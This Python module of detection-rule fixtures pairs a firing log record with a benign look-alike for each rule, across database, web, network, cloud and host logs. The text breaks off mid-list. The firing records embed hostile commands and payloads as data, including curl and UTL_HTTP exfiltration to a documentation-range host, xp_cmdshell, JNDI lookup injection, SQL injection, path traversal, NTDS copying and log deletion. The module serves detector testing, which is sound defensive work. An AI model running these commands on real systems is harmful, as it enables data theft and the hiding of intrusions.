"""Of each shipped rule two records in the format that it speaks of: one that it fires on, and the ordinary one beside it.

The lines are written as the products write them; addresses are of the documentation's networks (RFC 5737) or private.
"""

from dataclasses import dataclass
from typing import Any

import orjson

#: a working day at ten, and the night after it, in Shanghai
_DAY, _NIGHT = "2026-11-23 10:00:00.123 CST", "2026-11-23 23:10:00.123 CST"


@dataclass(frozen=True, slots=True)
class Case:
    """What one rule is tried on; each text may be several lines of one record."""

    rule: str
    format: str
    hit: str
    quiet: str


def pgaudit(
    sql: str, *, app: str = "permit-server", user: str = "app_permit", rows: int | None = 12, **more: Any
) -> str:
    """Return a line of pgaudit 1.7 in a server log."""
    command = more.get("command") or sql.split(maxsplit=1)[0].upper()
    at, host, kind = more.get("at", _DAY), more.get("host", "10.1.2.3"), more.get("kind", "READ")
    head = f"{at} [4711] user={user},db=transport,app={app},host={host},session=65a.1 LOG:  AUDIT: SESSION,1,1,"
    text = sql.replace('"', '""')
    return f'{head}{kind},{command},,,"{text}",<not logged>,{rows}\n'


def mariadb(sql: str, user: str = "app", host: str = "10.1.2.3") -> str:
    """Return a line of MariaDB's audit plug-in."""
    text = sql.replace("'", "\\'")
    return f"20261123 10:00:00,db1,{user},{host},12,345,QUERY,hr,'{text}',0\n"


def document(**fields: Any) -> str:
    """Return a record of a format that writes JSON."""
    return orjson.dumps(fields).decode() + "\n"


def oracle(sql: str, action: str = "SELECT", program: str = "permit.exe", user: str = "PERMIT") -> str:
    """Return a row of Oracle's unified audit trail."""
    return document(
        EVENT_TIMESTAMP="2026-11-23 10:00:00.123", DBUSERNAME=user, ACTION_NAME=action, RETURN_CODE=0,
        USERHOST="10.1.2.3", CLIENT_PROGRAM_NAME=program, SQL_TEXT=sql,
    )  # fmt: skip


def sqlserver(sql: str, action: str = "SL", program: str = "permit", user: str = "permit") -> str:
    """Return a row of SQL Server's audit."""
    return document(
        event_time="2026-11-23T02:00:00.1234567", action_id=action, succeeded=True, server_principal_name=user,
        client_ip="10.1.2.3", application_name=program, statement=sql,
    )  # fmt: skip


def dameng(sql: str, operation: str = "SELECT", user: str = "PERMIT") -> str:
    """Return a row of Dameng's audit."""
    return document(
        OPTIME="2026-11-23 10:00:00", USERNAME=user, OPERATION=operation, SUCC_FLAG="Y", IP="10.1.2.3", SQL_TEXT=sql
    )


def nginx(
    path: str, *, status: int = 200, size: int = 5120, method: str = "GET", agent: str = "Mozilla/5.0", **more: str
) -> str:
    """Return a line of nginx in the combined form."""
    host, referrer = more.get("host", "10.1.2.3"), more.get("referrer", "-")
    return (
        f'{host} - - [23/Nov/2026:10:00:00 +0800] "{method} {path} HTTP/1.1" {status} {size} "{referrer}" "{agent}"\n'
    )


def zeek(**fields: Any) -> str:
    """Return a record of Zeek, written as JSON."""
    ends = {"id.orig_h": "10.1.2.3", "id.orig_p": 4567, "id.resp_h": "10.9.9.9", "id.resp_p": 443}
    return document(**{"ts": 1795399200.5, "uid": "C1", **ends, **fields})


def fortigate(**fields: Any) -> str:
    """Return a line of a FortiGate firewall."""
    head = {
        "date": "2026-11-23",
        "time": "10:00:00",
        "tz": '"+0800"',
        "devname": '"fw"',
        "devid": '"F1"',
        "logid": '"0000000013"',
    }
    return " ".join(f"{name}={value}" for name, value in {**head, **fields}.items()) + "\n"


def cef(vendor: str, product: str, name: str, severity: int, extension: str) -> str:
    """Return a CEF message behind a syslog head."""
    return f"Nov 23 10:00:00 gate CEF:0|{vendor}|{product}|8.9|100|{name}|{severity}|rt=1795399200000 {extension}\n"


def cloudtrail(name: str, source: str = "s3", **more: Any) -> str:
    """Return a record of CloudTrail."""
    return document(
        eventVersion="1.08", userIdentity={"type": "IAMUser", "userName": "alice"}, eventTime="2026-11-23T02:00:00Z",
        eventSource=f"{source}.amazonaws.com", eventName=name, sourceIPAddress="203.0.113.7", userAgent="aws-cli/2.15", **more,
    )  # fmt: skip


def s3(operation: str, key: str, *, requester: str = "alice", agent: str = "S3Console/0.4", size: int = 51200) -> str:
    """Return a line of an S3 bucket's access log."""
    owner = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"
    return (
        f"{owner} bkt [23/Nov/2026:02:00:00 +0000] 203.0.113.3 {requester} 3E57427F3EXAMPLE {operation} {key} "
        f'"GET /{key} HTTP/1.1" 200 - {size} {size} 7 6 "-" "{agent}" -\n'
    )


def minio(name: str, key: str, *, agent: str = "MinIO Console", size: int = 51200) -> str:
    """Return a record of MinIO's audit."""
    api = {"name": name, "bucket": "b", "object": key, "statusCode": 200, "rx": 1, "tx": size}
    return document(
        version="1", deploymentid="d", time="2026-11-23T02:00:00.5Z", api=api, remotehost="10.1.2.3", userAgent=agent,
        accessKey="alice",
    )  # fmt: skip


def office(operation: str, workload: str = "SharePoint", **more: Any) -> str:
    """Return a record of the audit of Microsoft 365."""
    return document(
        CreationTime="2026-11-23T02:00:00", Id="x", Operation=operation, RecordType=14, Workload=workload,
        UserId="alice@a.example", ClientIP="10.1.2.3", ObjectId="https://a.example/list.xlsx", **more,
    )  # fmt: skip


def kubernetes(verb: str, uri: str, user: str = "alice", code: int = 200) -> str:
    """Return a record of a cluster's audit."""
    return document(
        kind="Event", apiVersion="audit.k8s.io/v1", level="Metadata", auditID="x", stage="ResponseComplete", requestURI=uri,
        verb=verb, user={"username": user}, sourceIPs=["10.1.2.3"], responseStatus={"code": code},
        requestReceivedTimestamp="2026-11-23T02:00:00.000000Z",
    )  # fmt: skip


def opensearch(method: str, path: str, privilege: str) -> str:
    """Return a record of OpenSearch's security audit."""
    return document(
        audit_category="GRANTED_PRIVILEGES", audit_format_version=4, audit_node_name="n", audit_request_privilege=privilege,
        audit_request_effective_user="alice", audit_request_remote_address="10.1.2.3", audit_rest_request_path=path,
        audit_rest_request_method=method, **{"@timestamp": "2026-11-23T02:00:00.000+00:00"},
    )  # fmt: skip


def executed(*arguments: str) -> str:
    """Return the records that Linux's audit writes of one command."""
    head, name = "msg=audit(1795399200.123:7):", arguments[0]
    told = " ".join(f'a{at}="{one}"' for at, one in enumerate(arguments))
    return (
        f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=1000 euid=1000 ses=3 "
        f'tty=pts0 comm="{name}" exe="/usr/bin/{name}" key="exec"\ntype=EXECVE {head} argc={len(arguments)} {told}\n'
    )


def sudo(command: str, target: str = "root") -> str:
    """Return a line of sudo in an authentication log."""
    return f"Nov 23 10:00:02 db1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER={target} ; COMMAND={command}\n"


def windows(number: int, channel: str = "Security", **fields: Any) -> str:
    """Return a Windows event as a shipper writes it in JSON."""
    return document(
        **{"@timestamp": "2026-11-23T02:00:00Z", "EventID": number, "Channel": channel, "Hostname": "pc7", **fields}
    )


DATABASE = (
    Case(
        "audit_policy_dropped", "oracle_audit",
        oracle("NOAUDIT POLICY personal_data", "NOAUDIT"), oracle("AUDIT POLICY personal_data", "AUDIT"),
    ),
    Case(
        "audit_policy_dropped", "sqlserver_audit",
        sqlserver("ALTER SERVER AUDIT [main] WITH (STATE = OFF)", "AL"),
        sqlserver("ALTER SERVER AUDIT [main] WITH (STATE = ON)", "AL"),
    ),
    Case(
        "audit_policy_dropped", "dameng_audit",
        dameng("SP_SET_ENABLE_AUDIT(0);", "CALL", "SYSAUDITOR"), dameng("SELECT * FROM V$AUDITRECORDS", user="SYSAUDITOR"),
    ),
    Case(
        "audit_records_deleted", "mariadb_audit",
        mariadb("TRUNCATE TABLE mysql.general_log"), mariadb("TRUNCATE TABLE import_step"),
    ),
    Case(
        "audit_switched_off", "pgaudit",
        pgaudit("ALTER SYSTEM SET pgaudit.log = 'none'", kind="MISC", command="ALTER SYSTEM"), pgaudit("SHOW pgaudit.log", kind="MISC"),
    ),
    Case(
        "backup_by_statement", "sqlserver_audit",
        sqlserver("BACKUP DATABASE [hr] TO DISK = N'D:\\x\\hr.bak' WITH COPY_ONLY", "BA", "Microsoft SQL Server Management Studio"),
        sqlserver("BACKUP DATABASE [hr] TO DISK = N'D:\\b\\hr.bak'", "BA", "SQLAgent - TSQL JobStep"),
    ),
    Case(
        "built_in_administrator_by_network", "pgaudit",
        pgaudit("SELECT 1", user="postgres", host="10.1.2.77"), pgaudit("SELECT 1", user="postgres", host="[local]"),
    ),
    Case(
        "bulk_read_of_graded_data", "pgaudit",
        pgaudit("SELECT name, phone FROM hr.person WHERE id > 5", rows=32418), pgaudit("SELECT id, note FROM hr.open_list", rows=32418),
    ),
    Case(
        "bulk_read_of_ungraded_data", "pgaudit",
        pgaudit("SELECT a, b FROM stage.unknown_import", rows=2_400_000), pgaudit("SELECT a, b FROM stage.unknown_import", rows=900),
    ),
    Case(
        "command_from_database", "sqlserver_audit",
        sqlserver("EXEC master..xp_cmdshell 'whoami'", "EX"), sqlserver("EXEC dbo.refresh_totals", "EX"),
    ),
    Case(
        "command_from_database", "mariadb_audit",
        mariadb("CREATE FUNCTION sys_run RETURNS STRING SONAME 'udf.so'"),
        mariadb("CREATE FUNCTION age(d DATE) RETURNS INT RETURN YEAR(NOW()) - YEAR(d)"),
    ),
    Case(
        "copy_out_of_graded_table", "pgaudit",
        pgaudit("COPY hr.person TO STDOUT (FORMAT csv)", rows=0), pgaudit("COPY hr.person FROM STDIN", rows=0, kind="WRITE"),
    ),
    Case(
        "copy_to_program", "pgaudit",
        pgaudit("COPY (SELECT * FROM hr.person) TO PROGRAM 'curl -T - http://203.0.113.9/'", rows=0, kind="MISC"),
        pgaudit("COPY hr.program TO STDOUT", rows=0),
    ),
    Case(
        "data_pump", "oracle_audit",
        oracle('SELECT /*+ all_rows */ * FROM RELATIONAL("HR"."PERSON")', program="expdp@db1 (TNS V1-V3)"),
        oracle("SELECT name FROM person WHERE id = 5", program="export-service.exe"),
    ),
    Case(
        "database_calls_out", "oracle_audit",
        oracle("SELECT UTL_HTTP.REQUEST('http://203.0.113.9/' || name) FROM person"),
        oracle("SELECT url FROM link_list WHERE name = 'utl_http.'"),
    ),
    Case(
        "database_from_outside", "pgaudit",
        pgaudit("SELECT 1", host="203.0.113.9"), pgaudit("SELECT 1", host="10.1.2.9"),
    ),
    Case(
        "database_login_made", "sqlserver_audit",
        sqlserver("CREATE LOGIN [reader2] WITH PASSWORD = 'x'", "CR"), sqlserver("CREATE TABLE dbo.login (id int)", "CR"),
    ),
    Case(
        "dump_tool", "pgaudit",
        pgaudit("COPY hr.person TO stdout", app="pg_dump", rows=0), pgaudit("COPY hr.open_list TO stdout", app="loader", rows=0),
    ),
    Case(
        "export_off_hours", "pgaudit",
        pgaudit("COPY hr.person TO STDOUT", rows=0, at=_NIGHT), pgaudit("COPY hr.person TO STDOUT", rows=0),
    ),
    Case(
        "graded_data_by_hand", "pgaudit",
        pgaudit("SELECT name, phone FROM hr.person WHERE city = '广州'", app="DBeaver 24.1.0 - SQLEditor <Script.sql>", rows=800),
        pgaudit("SELECT name, phone FROM hr.person WHERE id = 7", app="DBeaver 24.1.0 - Main", rows=1),
    ),
    Case(
        "graded_data_by_script", "sqlserver_audit",
        sqlserver("SELECT phone FROM hr.person WHERE id > 5", program="Python").replace("}\n", ',"response_rows":5000}\n'),
        sqlserver("SELECT phone FROM hr.person WHERE id = 5", program="Python").replace("}\n", ',"response_rows":1}\n'),
    ),
    Case(
        "graded_data_into_spreadsheet", "sqlserver_audit",
        sqlserver("SELECT phone FROM hr.person WHERE id > 5", program="Microsoft Office 2016"),
        sqlserver("SELECT note FROM hr.open_list", program="Microsoft Office 2016"),
    ),
    Case(
        "granted_to_everyone", "pgaudit",
        pgaudit("GRANT SELECT ON hr.person TO PUBLIC", kind="ROLE"), pgaudit("GRANT USAGE ON SCHEMA hr TO PUBLIC", kind="ROLE"),
    ),
    Case(
        "identity_taken_over", "pgaudit",
        pgaudit("SET SESSION AUTHORIZATION hr_owner", kind="MISC"), pgaudit("SET SESSION AUTHORIZATION DEFAULT", kind="MISC"),
    ),
    Case(
        "injection_reached_database", "pgaudit",
        pgaudit("SELECT name FROM t WHERE id = 5 UNION ALL SELECT NULL, NULL, usename FROM pg_shadow"),
        pgaudit("SELECT name FROM t WHERE id = 5 UNION ALL SELECT name FROM t_old WHERE id = 5"),
    ),
    Case(
        "injection_reached_database", "mariadb_audit",
        mariadb("SELECT name FROM t WHERE id = 5 AND SLEEP(5)"), mariadb("SELECT sleep_hours FROM driver_rest WHERE id = 5"),
    ),
    Case(
        "into_outfile", "mariadb_audit",
        mariadb("SELECT * FROM staff INTO OUTFILE '/var/lib/mysql-files/s.csv'"), mariadb("SELECT outfile FROM export_task"),
    ),
    Case(
        "mysqldump_shape", "mysql_general",
        "2026-11-23T02:00:01.123456Z\t   12 Query\tSELECT /*!40001 SQL_NO_CACHE */ * FROM `staff`\n",
        "2026-11-23T02:00:01.123456Z\t   12 Query\tSELECT SQL_NO_CACHE name FROM staff WHERE id = 5\n",
    ),
    Case(
        "rights_widened", "pgaudit",
        pgaudit("GRANT SELECT ON hr.person TO bi_reader", kind="ROLE"), pgaudit("SELECT grant_no FROM permit_grant"),
    ),
    Case(
        "row_security_switched_off", "pgaudit",
        pgaudit("ALTER TABLE hr.person DISABLE ROW LEVEL SECURITY", kind="DDL", command="ALTER TABLE"),
        pgaudit("ALTER TABLE hr.person ENABLE ROW LEVEL SECURITY", kind="DDL", command="ALTER TABLE"),
    ),
    Case(
        "search_for_sensitive_columns", "pgaudit",
        pgaudit("SELECT table_name, column_name FROM information_schema.columns WHERE column_name ILIKE '%sfzh%'"),
        pgaudit("SELECT column_name FROM information_schema.columns WHERE table_name = 'person'"),
    ),
    Case(
        "server_files_read", "pgaudit",
        pgaudit("SELECT pg_read_file('/etc/passwd')"), pgaudit("SELECT file_name FROM read_file_list"),
    ),
    Case(
        "service_account_by_hand", "pgaudit",
        pgaudit("SELECT 1", user="svc_permit", app="DBeaver 24.1.0 - Main"), pgaudit("SELECT 1", user="svc_permit", app="permit-server"),
    ),
    Case(
        "superuser_made", "pgaudit",
        pgaudit("ALTER ROLE reader WITH SUPERUSER", kind="ROLE", command="ALTER ROLE"),
        pgaudit("ALTER ROLE reader WITH NOSUPERUSER NOBYPASSRLS", kind="ROLE", command="ALTER ROLE"),
    ),
    Case(
        "superuser_made", "oracle_audit", oracle("GRANT DBA TO reader", "GRANT"), oracle("GRANT dba_reports TO reader", "GRANT")
    ),
    Case(
        "unload_to_cloud", "pgaudit",
        pgaudit("SELECT * FROM aws_s3.query_export_to_s3('SELECT * FROM hr.person', 'b')"),
        pgaudit("SELECT count(*) FROM unload_plan"),
    ),
    Case(
        "unload_to_cloud", "sqlserver_audit",
        sqlserver("BACKUP DATABASE [hr] TO URL = 'https://x.blob.core.windows.net/b/hr.bak'", "BA"),
        sqlserver("BACKUP DATABASE [hr] TO DISK = 'D:\\b\\hr.bak'", "BA"),
    ),
    Case(
        "whole_graded_table_read", "pgaudit",
        pgaudit("SELECT * FROM hr.person"), pgaudit("SELECT * FROM hr.person WHERE id = 5"),
    ),
)  # fmt: skip

_TUNNEL = {
    "type": '"event"',
    "subtype": '"vpn"',
    "action": '"tunnel-up"',
    "user": '"alice"',
    "msg": '"SSL tunnel established"',
}
_TO_DATABASE = {
    "type": '"traffic"',
    "subtype": '"forward"',
    "srcip": "203.0.113.9",
    "dstip": "10.9.9.9",
    "dstport": 5432,
}
_HASH = "6b1f0c9e4a7d2b8853fe90ac17d46e2b9c0f7a61d3e8b5"
WEB = (
    Case(
        "administration_from_outside", "nginx",
        nginx("/admin/user/save", method="POST", host="203.0.113.9"), nginx("/admin/user/save", method="POST"),
    ),
    Case("attack_tool_agent", "nginx", nginx("/a?id=1", agent="sqlmap/1.8.2#stable"), nginx("/a?id=1")),
    Case(
        "backup_file_served", "nginx",
        nginx("/old/hr_20261101.sql.gz", size=48_000_000), nginx("/old/hr_20261101.sql.gz", status=404, size=153),
    ),
    Case(
        "cloud_metadata_by_web", "nginx",
        nginx("/fetch?url=http://169.254.169.254/latest/meta-data/iam/", size=90), nginx("/fetch?url=http://www.a.example/x"),
    ),
    Case(
        "download_by_script", "nginx",
        nginx("/api/v1/records", agent="python-requests/2.31.0", size=42_000_000), nginx("/api/v1/records", agent="python-requests/2.31.0"),
    ),
    Case(
        "injection_takes_files_or_commands", "nginx",
        nginx("/a?id=1;exec%20xp_cmdshell"), nginx("/a?sort=name;desc&note=insert"),
    ),
    Case(
        "large_export_by_web", "nginx",
        nginx("/api/export/drivers", size=52_000_000), nginx("/api/export/drivers", size=5_000),
    ),
    Case(
        "large_post_to_outside", "zeek_http",
        zeek(trans_depth=1, method="POST", host="203.0.113.9", uri="/u", status_code=200, request_body_len=73_400_320, **{"id.resp_h": "203.0.113.9"}),
        zeek(trans_depth=1, method="POST", host="files.a.example", uri="/u", status_code=200, request_body_len=73_400_320),
    ),
    Case(
        "lookup_injection", "nginx", nginx("/", agent="${jndi:ldap://203.0.113.9/a}"), nginx("/?q=jndi"),
    ),
    Case("management_page_open", "nginx", nginx("/actuator/heapdump", size=88_000_000), nginx("/actuator/health", size=15)),
    Case(
        "many_ids_in_one_request", "nginx",
        nginx("/api/person?ids=" + ",".join(str(10_000 + at) for at in range(60))), nginx("/api/person?ids=10001,10002,10003"),
    ),
    Case(
        "page_size_abused", "nginx",
        nginx("/api/person?page=1&pageSize=5000", size=1_800_000), nginx("/api/person?page=1&pageSize=50", size=18_000),
    ),
    Case("path_traversal", "nginx", nginx("/down?f=../../../../etc/passwd", status=400), nginx("/down/v1..2/notes.txt")),
    Case("probe_for_backups", "nginx", nginx("/.env", status=404), nginx("/environment")),
    Case(
        "sql_injection_shape", "nginx",
        nginx("/a?id=1%20UNION%20SELECT%20password"), nginx("/a?q=trade+union"),
    ),
    Case(
        "upload_to_net_disk", "zeek_http",
        zeek(trans_depth=1, method="PUT", host="transfer.sh", uri="/x.zip", status_code=200, request_body_len=9_437_184),
        zeek(trans_depth=1, method="GET", host="transfer.sh", uri="/x.zip", status_code=200, request_body_len=0),
    ),
    Case("web_shell_command", "nginx", nginx("/news/view.jsp?cmd=whoami", size=41), nginx("/news/view.jsp?cmd=list", size=4100)),
    Case("web_shell_request", "nginx", nginx("/uploads/2026/a7.jsp", method="POST", size=41), nginx("/uploads/2026/a7.jpg")),
)  # fmt: skip

NETWORK = (
    Case(
        "bastion_file_download", "cef",
        cef("FIT2CLOUD", "JumpServer", "File transfer", 3, "suser=alice src=10.1.2.3 act=download filePath=/data/list.csv msg=ok"),
        cef("FIT2CLOUD", "JumpServer", "Login", 3, "suser=alice src=10.1.2.3 act=login msg=ok"),
    ),
    Case(
        "bastion_file_download", "syslog",
        '<14>Nov 23 10:00:00 jump jumpserver[7]: ftp_log - {"user": "alice", "operate": "download", "filename": "/data/list.csv"}\n',
        '<14>Nov 23 10:00:00 jump jumpserver[7]: ftp_log - {"user": "alice", "operate": "upload", "filename": "/tmp/patch.rpm"}\n',
    ),
    Case(
        "copied_to_removable_media", "cef",
        cef("Forcepoint", "Endpoint", "Endpoint operation", 6, "suser=alice src=10.1.2.3 act=Permitted cat=Removable media fname=list.xlsx msg=copied"),
        cef("Forcepoint", "Endpoint", "Endpoint operation", 3, "suser=alice src=10.1.2.3 act=Permitted cat=Printing fname=list.xlsx msg=printed"),
    ),
    Case(
        "data_loss_verdict", "cef",
        cef("Forcepoint", "Forcepoint DLP", "DLP Syslog", 7, "suser=alice src=10.1.2.3 act=Blocked duser=x@b.example fname=list.xlsx msg=mail"),
        cef("Vendor", "Mail gateway", "Delivered", 2, "suser=alice src=10.1.2.3 act=Delivered duser=x@b.example msg=mail"),
    ),
    Case(
        "database_port_from_outside", "fortigate",
        fortigate(**_TO_DATABASE, action='"close"', sentbyte=4000, rcvdbyte=990000),
        fortigate(**_TO_DATABASE, action='"deny"', sentbyte=0, rcvdbyte=0),
    ),
    Case(
        "dns_long_label", "zeek_dns",
        zeek(query=f"{_HASH}0a1b2c3d4e5f6a7b.t.b.example", qtype_name="A", rejected=False), zeek(query="www.b.example", qtype_name="A", rejected=False),
    ),
    Case(
        "dns_record_for_tunnels", "zeek_dns",
        zeek(query=f"{_HASH}.t.b.example", qtype_name="TXT", rejected=False),
        zeek(query="google._domainkey.b.example", qtype_name="TXT", rejected=False),
    ),
    Case(
        "large_upload_to_outside", "zeek_conn",
        zeek(proto="tcp", conn_state="SF", orig_bytes=734_003_200, resp_bytes=9000, **{"id.resp_h": "203.0.113.9"}),
        zeek(proto="tcp", conn_state="SF", orig_bytes=734_003_200, resp_bytes=9000),
    ),
    Case(
        "net_disk_by_tls", "zeek_ssl",
        zeek(server_name="gofile.io", established=True, **{"id.resp_h": "203.0.113.9"}), zeek(server_name="www.a.example", established=True),
    ),
    Case(
        "vpn_from_abroad", "fortigate",
        fortigate(**_TUNNEL, remip="203.0.113.9", srccountry='"Netherlands"'),
        fortigate(**_TUNNEL, remip="198.51.100.9", srccountry='"China"'),
    ),
)  # fmt: skip

CLOUD = (
    Case("anonymous_link_made", "microsoft_365", office("AnonymousLinkCreated"), office("CompanyLinkCreated")),
    Case(
        "backup_object_taken", "s3_access",
        s3("REST.GET.OBJECT", "daily/hr.sql.gz", size=51_200_000), s3("REST.GET.OBJECT", "daily/notes.pdf", size=51_200_000),
    ),
    Case(
        "backup_object_taken", "minio_audit",
        minio("GetObject", "daily/hr.dmp", size=51_200_000), minio("PutObject", "daily/hr.dmp", size=51_200_000),
    ),
    Case(
        "bucket_made_public", "cloudtrail",
        cloudtrail("PutBucketAcl", requestParameters={"bucketName": "b", "x-amz-acl": ["public-read"]}),
        cloudtrail("PutBucketAcl", requestParameters={"bucketName": "b", "x-amz-acl": ["private"]}),
    ),
    Case("cloud_audit_stopped", "cloudtrail", cloudtrail("StopLogging", "cloudtrail"), cloudtrail("StartLogging", "cloudtrail")),
    Case(
        "cloud_key_made", "cloudtrail",
        cloudtrail("CreateAccessKey", "iam", requestParameters={"userName": "backup"}),
        cloudtrail("CreateAccessKey", "iam", errorCode="AccessDenied"),
    ),
    Case(
        "cluster_secrets_listed", "kubernetes_audit",
        kubernetes("list", "/api/v1/namespaces/prod/secrets?limit=500"),
        kubernetes("list", "/api/v1/secrets?limit=500", "system:kube-controller-manager"),
    ),
    Case(
        "mail_forwarded_outside", "microsoft_365",
        office("New-InboxRule", "Exchange", Parameters=[{"Name": "ForwardTo", "Value": "x@b.example"}]),
        office("New-InboxRule", "Exchange", Parameters=[{"Name": "MoveToFolder", "Value": "News"}]),
    ),
    Case("object_read_by_nobody", "s3_access", s3("REST.GET.OBJECT", "list.csv", requester="-"), s3("REST.GET.OBJECT", "list.csv")),
    Case(
        "object_store_by_copy_tool", "minio_audit",
        minio("ListObjectsV2", "", agent="rclone/v1.66.0"), minio("ListObjectsV2", "", agent="MinIO (linux; amd64) minio-go/v7.0.70 permit-server"),
    ),
    Case("office_dlp_match", "microsoft_365", office("DlpRuleMatch", "Exchange"), office("FileAccessed")),
    Case(
        "office_audit_disabled", "microsoft_365",
        office("Set-AdminAuditLogConfig", "Exchange", Parameters=[{"Name": "UnifiedAuditLogIngestionEnabled", "Value": "False"}]),
        office("Set-Mailbox", "Exchange", Parameters=[{"Name": "Language", "Value": "zh-CN"}]),
    ),
    Case(
        "search_index_scrolled", "opensearch_audit",
        opensearch("POST", "/_search/scroll", "indices:data/read/scroll"), opensearch("POST", "/person/_search", "indices:data/read/search"),
    ),
    Case(
        "search_index_snapshot", "opensearch_audit",
        opensearch("PUT", "/_snapshot/out", "cluster:admin/repository/put"), opensearch("GET", "/_snapshot", "cluster:admin/repository/get"),
    ),
    Case("shared_with_guest", "microsoft_365", office("SharingSet", TargetUserOrGroupType="Guest"), office("SharingSet", TargetUserOrGroupType="Member")),
    Case(
        "shell_in_database_pod", "kubernetes_audit",
        kubernetes("create", "/api/v1/namespaces/prod/pods/mysql-0/exec?command=sh&stdin=true", code=101),
        kubernetes("create", "/api/v1/namespaces/prod/pods/portal-7d9f/exec?command=date", code=101),
    ),
    Case(
        "snapshot_shared_or_exported", "cloudtrail",
        cloudtrail("ModifyDBSnapshotAttribute", "rds", requestParameters={"attributeName": "restore", "valuesToAdd": ["all"]}),
        cloudtrail("DescribeDBSnapshots", "rds", readOnly=True),
    ),
)  # fmt: skip

HOST = (
    Case("archive_with_password", "auditd", executed("7z", "a", "-pSecret", "/tmp/a.7z", "/data/list"), executed("7z", "x", "/tmp/a.7z")),
    Case("audit_records_end", "auditd",
        "type=CONFIG_CHANGE msg=audit(1795399202.123:10): op=set audit_enabled=0 old=1 auid=1000 ses=3 res=1\n",
        "type=CONFIG_CHANGE msg=audit(1795399202.123:10): op=set audit_enabled=1 old=0 auid=1000 ses=3 res=1\n",
    ),
    Case("backup_copied_aside", "auditd", executed("cp", "/backup/hr.sql.gz", "/var/www/html/x.sql.gz"), executed("cp", "/backup/hr.sql.gz", "/backup/old/")),
    Case(
        "backup_taken_over_share", "windows_json",
        windows(5145, SubjectUserName="alice", IpAddress="10.1.2.3", ShareName="\\\\*\\backup", RelativeTargetName="hr\\full.bak"),
        windows(5145, SubjectUserName="alice", IpAddress="10.1.2.3", ShareName="\\\\*\\docs", RelativeTargetName="hr\\plan.docx"),
    ),
    Case(
        "copy_to_public_host", "auditd",
        executed("scp", "-r", "/data/out", "u@203.0.113.9:/in"), executed("scp", "-r", "/data/out", "u@10.1.2.9:/in"),
    ),
    Case(
        "copy_tool_on_windows", "windows_json",
        windows(4688, SubjectUserName="alice", NewProcessName="C:\\t\\rclone.exe", CommandLine="rclone copy D:\\ mega:x"),
        windows(4688, SubjectUserName="alice", NewProcessName="C:\\Windows\\explorer.exe", CommandLine="explorer.exe"),
    ),
    Case(
        "copy_tool_on_windows", "windows_xml",
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon'/>"
        "<EventID>1</EventID><TimeCreated SystemTime='2026-11-23T02:00:00.1234567Z'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
        "<Computer>pc7</Computer></System><EventData><Data Name='Image'>C:\\t\\WinSCP.exe</Data></EventData></Event>\n",
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon'/>"
        "<EventID>5</EventID><TimeCreated SystemTime='2026-11-23T02:00:00.1234567Z'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
        "<Computer>pc7</Computer></System><EventData><Data Name='Image'>C:\\t\\WinSCP.exe</Data></EventData></Event>\n",
    ),
    Case(
        "directory_database_copied", "windows_json",
        windows(4688, SubjectUserName="adm", NewProcessName="C:\\W\\ntdsutil.exe", CommandLine='ntdsutil "ac i ntds" "ifm" "create full c:\\x"'),
        windows(4688, SubjectUserName="adm", NewProcessName="C:\\Windows\\System32\\vssadmin.exe", CommandLine="vssadmin list shadows"),
    ),
    Case(
        "disabled_account_enabled", "windows_json",
        windows(4722, SubjectUserName="adm", TargetUserName="old.user"), windows(4722, SubjectUserName="adm", TargetUserName="PC7$"),
    ),
    Case("dump_tool_on_host", "auditd", executed("mysqldump", "-u", "root", "hr"), executed("mysql", "-u", "root", "hr")),
    Case("dump_tool_on_host", "linux_auth", sudo("/usr/bin/pg_dump -Fc hr -f /tmp/hr.dump"), sudo("/usr/bin/systemctl status postgresql")),
    Case("folder_served_by_command", "auditd", executed("python3", "-m", "http.server", "8000"), executed("python3", "-m", "json.tool")),
    Case("host_audit_stopped", "linux_auth", sudo("/bin/systemctl stop auditd"), sudo("/bin/systemctl restart nginx")),
    Case("host_logs_removed", "auditd", executed("rm", "-f", "/var/log/secure"), executed("rm", "-f", "/tmp/build.log")),
    Case("password_files_read", "auditd", executed("cat", "/home/app/.pgpass"), executed("cat", "/home/app/.ssh/id_rsa.pub")),
    Case(
        "remote_desktop_from_outside", "windows_json",
        windows(4624, TargetUserName="alice", LogonType=10, IpAddress="203.0.113.9"), windows(4624, TargetUserName="alice", LogonType=10, IpAddress="10.1.2.3"),
    ),
    Case(
        "ssh_from_outside", "linux_auth",
        "Nov 23 10:00:00 db1 sshd[12]: Accepted password for alice from 203.0.113.9 port 4567 ssh2\n",
        "Nov 23 10:00:00 db1 sshd[12]: Failed password for alice from 203.0.113.9 port 4567 ssh2\n",
    ),
    Case("sudo_to_database_superuser", "linux_auth", sudo("/usr/bin/psql -d hr", "postgres"), sudo("/usr/bin/psql -d hr", "alice")),
    Case("tunnel_to_database", "auditd", executed("ssh", "-N", "-L", "15432:10.9.9.9:5432", "u@10.1.2.9"), executed("ssh", "u@10.1.2.9")),
    Case("upload_by_command", "auditd", executed("curl", "-T", "/data/x.sql.gz", "ftp://203.0.113.9/"), executed("curl", "-s", "http://203.0.113.9/health")),
    Case("upload_by_sync_tool", "linux_auth", sudo("/usr/bin/rclone sync /data remote:x"), sudo("/usr/bin/rclone version")),
    Case(
        "usb_disk_attached", "windows_json",
        windows(6416, SubjectUserName="PC7$", ClassName="DiskDrive", DeviceId="USBSTOR\\Disk"),
        windows(6416, SubjectUserName="PC7$", ClassName="Mouse", DeviceId="HID\\VID"),
    ),
    Case("windows_audit_policy_changed", "windows_json", windows(4719, SubjectUserName="adm"), windows(4719, SubjectUserName="PC7$")),
    Case(
        "windows_log_cleared", "windows_xml",
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Eventlog'/>"
        "<EventID>1102</EventID><TimeCreated SystemTime='2026-11-23T02:00:00.1234567Z'/><Channel>Security</Channel><Computer>dc1.a.example</Computer>"
        "</System><UserData><LogFileCleared><SubjectUserName>adm</SubjectUserName></LogFileCleared></UserData></Event>\n",
